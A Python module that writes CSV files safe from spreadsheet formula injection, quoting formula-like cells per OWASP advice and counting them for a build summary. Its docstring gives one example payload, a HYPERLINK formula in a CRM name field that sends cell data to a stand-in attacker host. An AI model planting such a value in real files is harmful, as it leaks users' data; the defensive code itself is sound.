"""CSV files a person may open in a spreadsheet, safe from formula injection (docs/activation.md).

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, tab or CR as a formula, so a CRM
first name `=HYPERLINK("http://evil.example/?d="&A2,"Mary")` would run on the marketer's machine;
so may one that starts with whitespace and then such a character (` =HYPERLINK(...)`), as an
importer that trims cells reads it.
OWASP's advice, applied here: such a cell is written with a single quote in front and in double
quotes (`"'=HYPERLINK(..."`), which a spreadsheet shows as text. A plain number (`-5`, `+49`,
`1e-3`) is data, not a formula, and is written as it is: a spreadsheet reads it as the number it
is, and numeric columns stay numeric.

Files read by machines (the Salesforce Bulk API upsert) keep raw values: `formula_cells` counts
what a spreadsheet would run, so the build summary can flag them.
"""

from __future__ import annotations

import math
import re
from collections.abc import Iterable

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
_NEEDS_QUOTES = re.compile(r'[,"\r\n]')


def _text(value: object) -> str:
    """A cell's text as pandas' to_csv writes it: missing values (None, NaN, NA, NaT) empty."""
    if value is None or value is pd.NA or value is pd.NaT:
        return ""
    if isinstance(value, float) and math.isnan(value):
        return ""
    return value if isinstance(value, str) else str(value)


def is_formula(value: object) -> bool:
    """Whether a spreadsheet would run the cell: its first character, or its first after leading
    whitespace (an importer may trim ` =1+1` to a formula), is a formula character, and it is not a
    plain number (spaces around it allowed)."""
    text = _text(value)
    starts = text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)
    return starts and not _PLAIN_NUMBER.fullmatch(text.strip(" "))


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def cell(value: object, neutralise: bool = True) -> str:
    """One CSV field: quoted when it holds a comma, quote or line break; a formula neutralised
    (a single quote in front, in quotes) unless `neutralise` is False."""
    text = _text(value)
    if neutralise and is_formula(text):
        return _quoted("'" + text)
    return _quoted(text) if _NEEDS_QUOTES.search(text) else text


def csv_lines(frame: pd.DataFrame, neutralise: bool = True) -> tuple[bytes, list[bytes]]:
    """The header line and one line per row (each ending in `\\n`), so a file can be split
    between rows even when a value holds a line break."""
    header = ",".join(cell(c, neutralise) for c in frame.columns) + "\n"
    rows = [
        (",".join(cell(v, neutralise) for v in row) + "\n").encode()
        for row in frame.itertuples(index=False, name=None)
    ]
    return header.encode(), rows


def to_csv(frame: pd.DataFrame, neutralise: bool = True) -> bytes:
    """The frame as CSV (header, `\\n` line ends, minimal quoting), formulas neutralised."""
    header, rows = csv_lines(frame, neutralise)
    return header + b"".join(rows)


def formula_cells(frame: pd.DataFrame, columns: Iterable[str] | None = None) -> int:
    """How many cells (of `columns`, default all) a spreadsheet would run as formulas."""
    chosen = list(frame.columns if columns is None else columns)
    return sum(is_formula(v) for c in chosen for v in frame[c])
